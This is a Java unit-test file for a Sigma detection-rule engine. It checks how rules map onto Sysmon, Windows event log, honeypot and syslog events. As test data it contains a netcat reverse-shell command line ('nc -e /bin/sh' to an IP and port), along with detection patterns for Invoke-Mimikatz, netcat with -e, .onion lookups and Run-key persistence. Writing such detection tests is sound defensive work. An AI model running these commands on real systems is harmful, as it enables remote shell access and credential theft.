package io.hsystem.detection.sigma;

import static io.hsystem.detection.sigma.Rules.matches;
import static org.assertj.core.api.Assertions.assertThat;

import io.hsystem.ingest.internal.parse.RecordRejected;
import io.hsystem.ingest.internal.parse.SyslogParser;
import io.hsystem.protocol.Event;
import io.hsystem.protocol.SourceType;
import java.time.Instant;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.node.ObjectNode;

/** Logsources route rules to the canonical events the parsers make for them. */
class LogsourceTest {

  private static SigmaRule rule(String logsource, String detection) {
    return Rules.load(
        "title: t\nlogsource: "
            + logsource
            + "\ndetection:\n"
            + detection.strip().lines().map(l -> "  " + l + "\n").reduce("", String::concat));
  }

  @Test
  void aProcessCreationRuleOnlySeesProcessStarts() {
    SigmaRule rule =
        rule(
            "{product: windows, category: process_creation}",
            "s:\n  Image|endswith: '\\x.exe'\ncondition: s");
    assertThat(matches(rule, Rules.sysmon(1, "Image", "C:\\x.exe"))).isTrue();
    assertThat(matches(rule, Rules.sysmon(3, "Image", "C:\\x.exe"))).isFalse();
    // Security 4688 is a process start too, with NewProcessName as the image
    assertThat(matches(rule, Rules.windows("Security", 4688, "NewProcessName", "C:\\x.exe")))
        .isTrue();
  }

  @Test
  void sysmonCategoriesMapOntoTheirEventTypes() {
    SigmaRule dns =
        rule(
            "{product: windows, category: dns_query}",
            "s:\n  QueryName|endswith: '.onion'\ncondition: s");
    SigmaRule file =
        rule(
            "{product: windows, category: file_event}",
            "s:\n  TargetFilename|endswith: '.hta'\ncondition: s");
    SigmaRule registry =
        rule(
            "{product: windows, category: registry_set}",
            "s:\n  TargetObject|contains: '\\Run\\'\ncondition: s");
    SigmaRule image =
        rule(
            "{product: windows, category: image_load}",
            "s:\n  ImageLoaded|endswith: '\\dbghelp.dll'\ncondition: s");
    SigmaRule pipe =
        rule(
            "{product: windows, category: pipe_created}",
            "s:\n  PipeName: '\\msagent_1'\ncondition: s");
    assertThat(matches(dns, Rules.sysmon(22, "QueryName", "abc.onion"))).isTrue();
    assertThat(matches(file, Rules.sysmon(11, "TargetFilename", "C:\\a.hta"))).isTrue();
    assertThat(matches(file, Rules.sysmon(23, "TargetFilename", "C:\\a.hta"))).isFalse();
    assertThat(
            matches(
                registry,
                Rules.sysmon(
                    13,
                    "TargetObject",
                    "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x")))
        .isTrue();
    assertThat(
            matches(
                image,
                Rules.sysmon(7, "Image", "C:\\p.exe", "ImageLoaded", "C:\\Windows\\dbghelp.dll")))
        .isTrue();
    assertThat(matches(pipe, Rules.sysmon(17, "PipeName", "\\msagent_1"))).isTrue();
    assertThat(matches(pipe, Rules.sysmon(18, "PipeName", "\\msagent_1"))).isTrue();
  }

  @Test
  void registryAddAndDeleteAreToldApartByEventType() {
    SigmaRule add =
        rule(
            "{product: windows, category: registry_add}",
            "s:\n  TargetObject|contains: 'x'\ncondition: s");
    SigmaRule delete =
        rule(
            "{product: windows, category: registry_delete}",
            "s:\n  TargetObject|contains: 'x'\ncondition: s");
    Event created = Rules.sysmon(12, "EventType", "CreateKey", "TargetObject", "HKLM\\x");
    Event deleted = Rules.sysmon(12, "EventType", "DeleteValue", "TargetObject", "HKLM\\x");
    assertThat(matches(add, created)).isTrue();
    assertThat(matches(add, deleted)).isFalse();
    assertThat(matches(delete, deleted)).isTrue();
    assertThat(matches(delete, created)).isFalse();
  }

  @Test
  void fileDeleteAndFileDeleteDetectedAreToldApartByEventId() {
    SigmaRule archived =
        rule(
            "{product: windows, category: file_delete}",
            "s:\n  TargetFilename|endswith: '.log'\ncondition: s");
    SigmaRule detected =
        rule(
            "{product: windows, category: file_delete_detected}",
            "s:\n  TargetFilename|endswith: '.log'\ncondition: s");
    assertThat(matches(archived, Rules.sysmon(23, "TargetFilename", "a.log"))).isTrue();
    assertThat(matches(archived, Rules.sysmon(26, "TargetFilename", "a.log"))).isFalse();
    assertThat(matches(detected, Rules.sysmon(26, "TargetFilename", "a.log"))).isTrue();
  }

  @Test
  void windowsServicesAreTheirEventLogChannel() {
    SigmaRule security =
        rule(
            "{product: windows, service: security}",
            "s:\n  EventID: 4624\n  LogonType: 10\ncondition: s");
    assertThat(
            matches(
                security,
                Rules.windows("Security", 4624, "LogonType", "10", "TargetUserName", "bob")))
        .isTrue();
    assertThat(
            matches(
                security,
                Rules.windows("Security", 4624, "LogonType", "3", "TargetUserName", "bob")))
        .isFalse();
    assertThat(
            matches(
                security,
                Rules.windows("Microsoft-Windows-Sysmon/Operational", 4624, "LogonType", "10")))
        .isFalse();
  }

  @Test
  void powershellScriptBlocksAreTheirChannelAndEventId() {
    SigmaRule rule =
        rule(
            "{product: windows, category: ps_script}",
            "s:\n  ScriptBlockText|contains: 'Invoke-Mimikatz'\ncondition: s");
    Event block =
        Rules.windows(
            "Microsoft-Windows-PowerShell/Operational",
            4104,
            "ScriptBlockText",
            "Invoke-Mimikatz -x");
    assertThat(matches(rule, block)).isTrue();
    assertThat(
            matches(
                rule,
                Rules.windows(
                    "Microsoft-Windows-PowerShell/Operational",
                    4103,
                    "ScriptBlockText",
                    "Invoke-Mimikatz")))
        .isFalse();
    assertThat(
            matches(rule, Rules.windows("Application", 4104, "ScriptBlockText", "Invoke-Mimikatz")))
        .isFalse();
  }

  @Test
  void openCanaryAndCowrieRulesSeeTheirHoneypots() {
    SigmaRule canary =
        rule("{product: opencanary, category: application}", "s:\n  logtype: 2000\ncondition: s");
    ObjectNode ftp = Rules.object().put("logtype", 2000).put("utc_time", "2025-06-01 10:00:00.000");
    ObjectNode http =
        Rules.object().put("logtype", 3000).put("utc_time", "2025-06-01 10:00:00.000");
    assertThat(matches(canary, Rules.parse(SourceType.OPENCANARY, ftp))).isTrue();
    assertThat(matches(canary, Rules.parse(SourceType.OPENCANARY, http))).isFalse();
    SigmaRule cowrie =
        rule(
            "{product: cowrie, service: ssh}",
            "s:\n  eventid: cowrie.login.success\n  username: root\ncondition: s");
    ObjectNode login =
        Rules.object()
            .put("eventid", "cowrie.login.success")
            .put("timestamp", "2025-06-01T10:00:00Z")
            .put("protocol", "ssh")
            .put("username", "root");
    assertThat(matches(cowrie, Rules.parse(SourceType.COWRIE, login))).isTrue();
    assertThat(matches(cowrie, Rules.parse(SourceType.COWRIE, login.put("protocol", "telnet"))))
        .isFalse();
    assertThat(matches(cowrie, Rules.parse(SourceType.OPENCANARY, ftp))).isFalse();
  }

  @Test
  void theHoneypotCategoryCoversEveryHoneypotSource() {
    SigmaRule rule =
        rule("{category: honeypot, service: ssh}", "s:\n  username: root\ncondition: s");
    ObjectNode sensor =
        Rules.object()
            .put("event_time", "2025-06-01 10:00:00")
            .put("event_type", "login_attempt")
            .put("service", "ssh")
            .put("username", "root");
    assertThat(matches(rule, Rules.parse(SourceType.HSYSTEM_SENSOR, sensor))).isTrue();
    assertThat(
            matches(rule, Rules.parse(SourceType.HSYSTEM_SENSOR, sensor.put("service", "telnet"))))
        .isFalse();
    ObjectNode cowrie =
        Rules.object()
            .put("eventid", "cowrie.login.failed")
            .put("timestamp", "2025-06-01T10:00:00Z")
            .put("protocol", "ssh")
            .put("username", "root");
    assertThat(matches(rule, Rules.parse(SourceType.COWRIE, cowrie))).isTrue();
  }

  @Test
  void linuxRulesSeeTheAgentAndSyslog() throws RecordRejected {
    SigmaRule process =
        rule(
            "{product: linux, category: process_creation}",
            "s:\n  Image|endswith: '/nc'\n  CommandLine|contains: ' -e '\ncondition: s");
    ObjectNode agent =
        Rules.object()
            .put("event_time", "2025-06-01 10:00:00")
            .put("event_type", "process_start")
            .put("path", "/usr/bin/nc")
            .put("command_line", "nc -e /bin/sh 203.0.113.9 4444");
    assertThat(matches(process, Rules.parse(SourceType.HSYSTEM_AGENT, agent))).isTrue();
    SigmaRule sshd =
        rule(
            "{product: linux, service: sshd}",
            "keywords:\n  - 'Accepted password for root'\ncondition: keywords");
    SyslogParser syslog = new SyslogParser();
    Instant received = Instant.parse("2025-08-27T14:30:00Z");
    Event accepted =
        syslog.parse(
            "<86>Aug 27 14:25:09 web-01 sshd[4243]: Accepted password for root from 198.51.100.20 port 40022 ssh2",
            received,
            null);
    Event cron =
        syslog.parse(
            "<86>Aug 27 14:25:09 web-01 cron[4243]: Accepted password for root from 198.51.100.20 port 40022 ssh2",
            received,
            null);
    assertThat(matches(sshd, accepted)).isTrue();
    assertThat(matches(sshd, cron)).isFalse();
  }

  @Test
  void logsourcesWithoutAnHSystemSourceAreRefusedWithTheReason() {
    assertThat(
            Rules.refusalOf(
                "title: t\nlogsource: {product: macos, category: process_creation}\ndetection: {s: {Image: x}, condition: s}"))
        .contains("no H-System source produces it");
    assertThat(
            Rules.refusalOf(
                "title: t\nlogsource: {product: aws, service: cloudtrail}\ndetection: {s: {a: x}, condition: s}"))
        .contains("product: aws, service: cloudtrail");
    assertThat(
            Rules.refusalOf(
                "title: t\nlogsource: {product: linux, service: auditd}\ndetection: {s: {a: x}, condition: s}"))
        .contains("Linux 'auditd'");
    assertThat(
            Rules.refusalOf(
                "title: t\nlogsource: {product: windows, category: file_access}\ndetection: {s: {a: x}, condition: s}"))
        .contains("Sysmon does not log it");
    assertThat(
            Rules.refusalOf(
                "title: t\nlogsource: {product: windows, service: nosuchlog}\ndetection: {s: {a: x}, condition: s}"))
        .contains("no known event channel");
  }
}
